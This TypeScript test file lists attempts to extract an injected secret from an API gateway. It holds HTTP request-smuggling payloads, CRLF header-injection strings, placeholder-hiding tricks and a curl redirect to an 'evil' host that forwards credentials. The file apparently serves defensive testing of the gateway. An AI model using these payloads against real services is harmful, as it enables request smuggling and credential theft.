import { type Attempt, type Field, raw } from './attempt.ts';

const inTunnel = (field: Field, send: string, then?: string) =>
  raw({ connect: field.api, sni: 'api.test', send, ...(then !== undefined && { then }) });
const get = ({ api, placeholder }: Field, path = '/echo') =>
  `GET ${path} HTTP/1.1\r\nHost: ${api}\r\nx-key: ${placeholder}\r\n\r\n`;
const post = ({ api }: Field, headers: string, body: string) =>
  `POST /echo HTTP/1.1\r\nHost: ${api}\r\n${headers}\r\n${body}`;
const ask = ({ api, placeholder }: Field, path: string) =>
  `curl -s -k -i -m 10 -H 'x-key: ${placeholder}' 'https://${api}${path}'`;
const BACK = /jettson-secret-[0-9a-f]{20}/;
/** Bytes that come more than 50 ms apart, as on a busy machine: the gateway passes on up to three that may be an accident. */
const BACK_SLOWLY = /.{3}tson-secret-[0-9a-f]{20}/;

/** Attempts by messages that two readers could read differently, and by what comes back. */
export const MESSAGES: Attempt[] = [
  {
    name: 'both framings',
    command: (field) =>
      inTunnel(
        field,
        post(field, `Content-Length: 4\r\nTransfer-Encoding: chunked\r\n`, `0\r\n\r\n${get(field)}`),
      ),
    answers: /400/,
  },
  {
    name: 'two lengths',
    command: (field) =>
      inTunnel(
        field,
        post(field, `Content-Length: 0\r\nContent-Length: ${get(field).length}\r\n`, get(field)),
      ),
    answers: /400/,
  },
  {
    name: 'an encoding that is not chunked',
    command: (field) =>
      inTunnel(field, post(field, 'Transfer-Encoding: xchunked\r\n', `0\r\n\r\n${get(field)}`)),
    answers: /400|501/,
  },
  {
    name: 'a line folded',
    command: (field) => inTunnel(field, get(field).replace('x-key: ', 'x-key:\r\n ')),
  },
  { name: 'a bare line feed', command: (field) => inTunnel(field, get(field).replace('\r\n', '\n')) },
  {
    name: 'a space before the colon',
    command: (field) => inTunnel(field, get(field).replace('x-key:', 'x-key :')),
    answers: /400/,
  },
  {
    name: 'a second request before the answer',
    command: (field) => inTunnel(field, get(field, '/slow') + get(field)),
  },
  {
    name: 'a placeholder in a chunk extension',
    command: (field) =>
      inTunnel(
        field,
        post(field, 'Transfer-Encoding: chunked\r\n', `1;${field.placeholder}\r\na\r\n0\r\n\r\n`),
      ),
    answers: /200/,
  },
  {
    name: 'a placeholder in a trailer',
    command: (field) =>
      inTunnel(
        field,
        post(field, 'Transfer-Encoding: chunked\r\n', `1\r\na\r\n0\r\nx-key: ${field.placeholder}\r\n\r\n`),
      ),
    answers: /200/,
  },
  {
    name: 'a placeholder in the method',
    command: (field) => inTunnel(field, get(field).replace('GET', field.placeholder)),
    answers: /400/,
  },
  {
    name: 'a placeholder in the path',
    command: ({ api, placeholder }) => `curl -s https://${api}/${placeholder}`,
    answers: BACK,
  },
  {
    name: 'a placeholder in a body, which is off',
    command: ({ api, placeholder }) => `curl -s -d '${placeholder}' https://${api}/echo`,
    answers: BACK,
  },
  {
    name: 'a placeholder in a multipart body, which is off',
    command: ({ api, placeholder }) => `curl -s -F 'a=${placeholder}' https://${api}/echo`,
    answers: BACK,
  },
  {
    name: 'a placeholder in a query, which is off',
    command: ({ api, placeholder }) => `curl -s 'https://${api}/echo?q=${placeholder}'`,
    answers: BACK,
  },
  {
    name: 'half a placeholder in each of two headers',
    command: ({ api, placeholder }) =>
      `curl -s -H 'x-key: ${placeholder.slice(0, 20)}' -H 'x-more: ${placeholder.slice(20)}' https://${api}/echo`,
  },
  {
    name: 'a header that is named in Connection',
    command: (field) => inTunnel(field, get(field).replace('x-key', 'Connection: x-key\r\nx-key')),
    answers: /200/,
  },
  {
    name: 'the headers of the CONNECT',
    command: (field) =>
      raw({
        connect: field.api,
        sni: 'api.test',
        send: '',
        headers: { ':path': '/echo', 'x-key': 'none', 'x-note': field.placeholder.slice(0, 8) },
      }),
    answers: /200/,
  },
  {
    name: 'Upgrade to h2c',
    command: (field) =>
      inTunnel(
        field,
        get(field).replace(
          '\r\n\r\n',
          '\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n',
        ),
      ),
    reaches: 1,
    answers: /200/,
  },
  {
    name: 'a line break in a value of the query',
    command: ({ api, placeholder }) => `curl -s 'https://${api}/echo?a=%0d%0ax-key:%20${placeholder}'`,
    answers: BACK,
  },
  { name: 'an answer that is split', command: (field) => ask(field, '/split'), reaches: 1, answers: BACK },
  {
    name: 'TRACE',
    command: (field) => inTunnel(field, get(field).replace('GET', 'TRACE')),
    reaches: 1,
    answers: BACK,
  },
  { name: 'an echo', command: (field) => ask(field, '/echo'), reaches: 1, answers: BACK },
  { name: 'an echo in an error page', command: (field) => ask(field, '/error'), reaches: 1, answers: BACK },
  {
    name: 'an echo in the status text',
    command: (field) => inTunnel(field, get(field, '/status')),
    reaches: 1,
    answers: BACK,
  },
  {
    name: 'an echo in cookies and a redirect',
    command: (field) => ask(field, '/cookies'),
    reaches: 1,
    answers: BACK,
  },
  {
    name: 'an echo in base64',
    command: (field) => `${ask(field, '/base64')} | tail -1 | base64 -d`,
    reaches: 1,
    answers: BACK,
  },
  { name: 'an echo in gzip', command: (field) => ask(field, '/gzip'), reaches: 1, answers: BACK },
  {
    name: 'an echo in brotli, inside gzip',
    command: (field) => ask(field, '/twice'),
    reaches: 1,
    answers: BACK,
  },
  {
    name: 'an echo byte by byte',
    command: (field) => ask(field, '/pieces'),
    reaches: 1,
    answers: BACK_SLOWLY,
  },
  {
    name: 'an echo in early hints',
    command: (field) => inTunnel(field, get(field, '/hints')),
    reaches: 1,
    answers: BACK,
  },
  {
    name: 'an echo in trailers',
    command: (field) => inTunnel(field, get(field, '/trailers')),
    reaches: 1,
    answers: BACK,
  },
  {
    name: 'an echo in JSON and in HTML',
    command: (field) => ask(field, '/escaped'),
    reaches: 1,
    answers: BACK,
  },
  {
    name: 'a redirect to another host',
    command: (field) =>
      `curl -s -k -L --location-trusted -H 'x-key: ${field.placeholder}' -u 'x:${field.placeholder}' 'https://${field.api}/to-evil'`,
    reaches: 1,
    answers: /evil/,
  },
  {
    name: 'a redirect to plain HTTP',
    command: (field) => `curl -s -k -L -H 'x-key: ${field.placeholder}' 'https://${field.api}/to-plain'`,
    reaches: 1,
  },
  {
    name: 'a signature by AWS4',
    command: ({ api, placeholder }) =>
      `curl -s -H 'authorization: AWS4-HMAC-SHA256 Credential=${placeholder}/x, Signature=00' https://${api}/echo`,
    answers: BACK,
  },
  {
    name: 'a signature by Digest',
    command: ({ api, placeholder }) =>
      `curl -s -H 'authorization: Digest username="${placeholder}", response="00"' https://${api}/echo`,
    answers: BACK,
  },
  {
    name: 'frames of a WebSocket',
    command: (field) =>
      inTunnel(
        field,
        `GET /socket HTTP/1.1\r\nHost: ${field.api}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
        `\u0081\u0028${field.placeholder}`,
      ),
    answers: /101/,
  },
];
